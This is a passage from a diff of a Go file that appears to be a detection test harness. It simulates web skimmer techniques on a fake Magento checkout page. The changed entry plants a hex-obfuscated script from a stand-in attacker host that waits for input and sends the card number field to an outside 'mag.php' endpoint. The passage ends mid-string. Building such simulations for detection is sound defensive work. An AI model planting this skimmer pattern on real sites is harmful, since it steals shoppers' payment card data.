@@ -441,7 +441,9 @@ func techniques() []*technique {
 		},
 		{
 			name: "hex-array-delayed-input", threat: "hex-escaped string array, waits 5 s, then sends the form on input (as the cdn-js.link kit)",
-			base: magento, wait: 7 * time.Second,
+			// Typing ends a quarter of the window before its end: in a
+			// 7 s window it could end before the kit listens.
+			base: magento, wait: 10 * time.Second,
 			plant: func(p *page) {
 				p.Head = template.HTML(`<script src="` + p.EvilBase + `/lib.js"></script>`)
 				p.EvilFiles["/lib.js"] = `var _0x5a1c = ['` + hexEscape("input") + `', '` + hexEscape(p.EvilBase+"/mag.php") + `', '` + hexEscape("payment[cc_number]") + `'];
